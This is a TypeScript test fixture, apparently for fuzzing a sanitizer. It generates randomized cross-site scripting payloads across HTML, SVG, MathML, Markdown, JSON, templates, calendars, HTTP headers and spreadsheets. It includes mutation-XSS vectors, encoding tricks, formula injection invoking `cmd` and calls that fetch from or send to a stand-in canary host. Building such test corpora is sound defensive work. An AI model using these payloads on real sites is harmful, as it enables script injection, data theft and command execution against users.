// Scripts as people have smuggled them into pages: what breaks out of where it stands, what then runs, in every spelling and by
// every way in that browsers, Markdown, spreadsheets, feeds and calendars have known. Each calls `canary` with a name of its own.
import type { Random } from '../../fixtures/random.ts'

export interface Payload {
  /** In the text as it stands, whatever is done to the rest of it. */
  readonly name: string
  readonly text: string
}

export const payloadName = /zz[0-9a-z]+n\d+zz/g

/** Where scripts of ours would phone home to: nobody answers there. */
export const canaryHost = 'canary.invalid'

export function payloadsFrom(random: Random): () => Payload {
  let made = 0
  return () => {
    const name = `zz${random.seed.toString(36)}n${made++}zz`
    return { name, text: grammar(random, name) }
  }
}

function grammar(random: Random, name: string): string {
  const runs = random.pick(running)(name)
  const uri = address(random, name)
  switch (random.below(8)) {
    case 0:
      return uri
    case 1:
      return random.pick(markdown)(uri, runs)
    case 2:
      return random.pick(mutating)(runs)
    case 3:
      return random.pick(inData)(runs, name)
    case 4:
      return bent(random, random.pick(outOf) + random.pick(elements)(runs, uri))
    case 5:
      return random.pick(quotes) + random.pick(handlers)(runs) + random.pick(['', ' x=', '"', "'", '>'])
    default:
      return (
        random.pick(outOf) + random.pick(elements)(runs, uri) + random.pick(['', '', '<!--', '"', '</p>'])
      )
  }
}

/** None has a quote that could end what it stands in, but the kind that its place allows. */
const running: readonly ((name: string) => string)[] = [
  name => `canary(\`${name}\`)`,
  name => `self.canary(\`${name}\`)`,
  name => `top[\`can\`+\`ary\`](\`${name}\`)`,
  name => `canary&#40;\`${name}\`&#41;`,
  name => `alert(\`${name}\`)`,
  name => `fetch(\`//${canaryHost}/${name}\`)`,
  name => `new(Image)().src=\`//${canaryHost}/${name}\``,
  name => `import(\`//${canaryHost}/${name}\`)`,
  name => `window.open(\`//${canaryHost}/${name}\`)`,
  name => `setTimeout(\`canary("${name}")\`.replaceAll(\`&quot;\`,String.fromCharCode(34)))`,
]

const plain = (name: string) => `canary('${name}')`

function address(random: Random, name: string): string {
  const page = `<script>${plain(name)}</script>`
  return random.pick([
    `javascript:${plain(name)}`,
    `JaVaScRiPt:${plain(name)}`,
    `java\tscript:${plain(name)}`,
    `java\nscript:${plain(name)}`,
    ` javascript:${plain(name)}`,
    `jav&#x61;script&colon;${plain(name)}`,
    `javascript://%0a${plain(name)}`,
    `//${canaryHost}/${name}`,
    `data:text/html,${page}`,
    `data:text/html;base64,${Buffer.from(page).toString('base64')}#${name}`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="${plain(name)}"/>`,
    `vbscript:${plain(name)}`,
    `https://a.example/"onmouseover="${plain(name)}`,
    `https://a.example/${name}?"><img src=x onerror=${plain(name)}>`,
    `\u0001javascript:${plain(name)}`,
    `view-source:javascript:${plain(name)}`,
  ])
}

/** Ends what it may stand in. */
const outOf = [
  ...['', '', '">', "'>", '`>', '>', '-->', '--!>', ']]>', '?>', '%>', '\\">', '"/>', '*/'],
  ...['</title>', '</textarea>', '</script>', '</style>', '</option></select>', '</svg>', '</noscript>'],
  ...['</p></div></main>', '</button></form>', '</td></tr></table>', '</a>', '</template>', '</math>'],
]

const elements: readonly ((runs: string, uri: string) => string)[] = [
  runs => `<script>${runs}</script>`,
  runs => `<script/x>${runs}</script/x>`,
  runs => `<script src=//${canaryHost}/${runs.replace(/\W/g, '')}.js></script>`,
  runs => `<img src=x onerror=${runs}>`,
  runs => `<img/src=x/onerror=${runs}>`,
  runs => `<svg onload=${runs}>`,
  runs => `<svg/onload="${runs}"//`,
  runs => `<svg><script>${runs}</script></svg>`,
  runs => `<svg><animate onbegin=${runs} attributeName=x dur=1s>`,
  runs => `<svg><set onbegin=${runs} attributename=x>`,
  runs => `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload=${runs}>`,
  (_, uri) => `<svg><a xlink:href="${uri}"><text y=9>x</text></a></svg>`,
  (_, uri) => `<svg><use href="${uri}#x"></use></svg>`,
  (_, uri) => `<math><mi href="${uri}">x</mi></math>`,
  runs => `<body onload=${runs} onpageshow=${runs}>`,
  runs => `<input autofocus onfocus=${runs}>`,
  runs => `<select autofocus onfocus=${runs}>`,
  runs => `<details open ontoggle=${runs}>`,
  runs => `<video><source onerror=${runs}>`,
  runs => `<audio src=x onerror=${runs}>`,
  runs => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${runs}>`,
  (_, uri) => `<iframe src="${uri}"></iframe>`,
  runs =>
    `<iframe srcdoc="&lt;script&gt;parent.${runs.replace(/^(?:self|top|window)\.?/, '')}&lt;/script&gt;">`,
  (_, uri) => `<object data="${uri}"></object><embed src="${uri}">`,
  (_, uri) => `<a href="${uri}" autofocus>x</a>`,
  (_, uri) => `<form action="${uri}"><button formaction="${uri}" autofocus>x</button></form>`,
  (_, uri) => `<base href="${uri}"><meta http-equiv=refresh content="0;url=${uri}">`,
  () => `<link rel=stylesheet href=//${canaryHost}/x.css><style>@import'//${canaryHost}/x.css'</style>`,
  runs =>
    `<template><script>${runs}</script></template><div onmouseover=${runs} style="position:fixed;inset:0">`,
  runs => `<marquee onstart=${runs}>x</marquee><keygen autofocus onfocus=${runs}>`,
  runs => `<x contenteditable autofocus tabindex=1 onfocus=${runs}>x</x>`,
]

const quotes = ['"', "'", '`', '" ', "' ", '"\n', '" /', '\\"', '&quot; ', '\u201d ', '\u2028" ']

const handlers: readonly ((runs: string) => string)[] = [
  runs => `onmouseover=${runs}`,
  runs => `autofocus onfocus=${runs}`,
  runs => `onload=${runs} onerror=${runs}`,
  runs => `style=animation-name:x onanimationstart=${runs}`,
  runs => `onpointerrawupdate="${runs}"`,
  runs => `accesskey=x onclick='${runs}'`,
]

const markdown: readonly ((uri: string, runs: string) => string)[] = [
  uri => `[x](${uri})`,
  uri => `[x](<${uri}>)`,
  uri => `![x](${uri})`,
  uri => `<${uri}>`,
  uri => `[x][1]\n\n[1]: ${uri}`,
  (_, runs) => `[x](https://a.example "t\\" onmouseover=${runs} \\"")`,
  (_, runs) => `[x](https://a.example 'onmouseover="${runs}"')`,
  (_, runs) => `**<b onclick=${runs}>x</b>** _<img src=x onerror=${runs}>_`,
  (_, runs) => `\`<script>${runs}</script>\`\n\n    <script>${runs}</script>`,
  (_, runs) => `> <img src=x onerror=${runs}>\n\n# <svg onload=${runs}>`,
  uri => `[![x](${uri})](${uri})`,
  (uri, runs) => `[<img src=x onerror=${runs}>](${uri})`,
]

/** Harmless until a browser writes them anew (mutation XSS). */
const mutating: readonly ((runs: string) => string)[] = [
  runs => `<noscript><p title="</noscript><img src=x onerror=${runs}>">`,
  runs =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${runs}&gt;">`,
  runs =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${runs}></style></mglyph></form>`,
  runs => `<svg></p><style><a id="</style><img src=x onerror=${runs}>">`,
  runs => `<svg><style><img src=x onerror=${runs}></style></svg>`,
  runs => `<p title="</p><img src=x onerror=${runs}>">`,
  runs => `<select><template><img src=x onerror=${runs}></template></select>`,
  runs => `<math><annotation-xml encoding="text/html"><img src=x onerror=${runs}></annotation-xml></math>`,
  runs => `<listing>\n&lt;img src=x onerror=${runs}&gt;</listing>`,
  runs => `<xmp><p title="</xmp><img src=x onerror=${runs}>"></xmp>`,
  runs => `&lt;img src=x onerror=${runs}&gt; &amp;lt;svg onload=${runs}&amp;gt;`,
]

/** In scripts, JSON, templates, feeds, calendars, tables and headers. */
const inData: readonly ((runs: string, name: string) => string)[] = [
  runs => `</script><script>${runs}</script>`,
  runs => `<!--<script>${runs}`,
  runs => `"};${runs};//`,
  runs => `'-${runs}-'`,
  runs => `\\u003cscript\\u003e${runs}\\u003c/script\\u003e`,
  runs => `%3Cscript%3E${runs}%3C%2Fscript%3E`,
  runs => `{{constructor.constructor('${runs}')()}} \${${runs}} <%=${runs}%> #{${runs}}`,
  (_, name) => `+ADw-script+AD4-${plain(name)}+ADw-/script+AD4-`,
  (_, name) =>
    `\uff1cscript\uff1e${plain(name)}\uff1c/script\uff1e <\u017fcript>${plain(name)}</\u017fcript>`,
  (_, name) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${plain(name)}</x:script>`,
  (_, name) => `]]><?xml-stylesheet href="javascript:${plain(name)}"?><!DOCTYPE x [<!ENTITY e "${name}">]>`,
  (_, name) => `${name}\r\nATTENDEE:javascript:${plain(name)}\r\nEND:VEVENT`,
  (_, name) => `${name}\r\nLocation: //${canaryHost}\r\n\r\n<script>${plain(name)}</script>`,
  (_, name) => `=HYPERLINK("http://${canaryHost}/${name}","x")`,
  (_, name) => `@SUM(1+1)*cmd|' /C calc'!A0 ${name}`,
  (_, name) => `+1+cmd|'${name}'!A0`,
  (_, name) => `-2+3+${name}`,
  (_, name) => `\uff1d1+1 ${name}`,
]

/** Letters large or small, white space of other kinds, a byte nobody sees. */
function bent(random: Random, text: string): string {
  return text
    .replace(
      /(<\/?)([a-z]+)/g,
      (_, open: string, tag: string) =>
        open + [...tag].map(letter => (random.below(2) ? letter.toUpperCase() : letter)).join(''),
    )
    .replace(/ (?=on|src)/g, () => random.pick([' ', '\t', '\n', '\f', '/', ' \r']))
    .replace(/=(?=[a-z])/g, () => random.pick(['=', ' = ', '=\t', '=\n']))
}
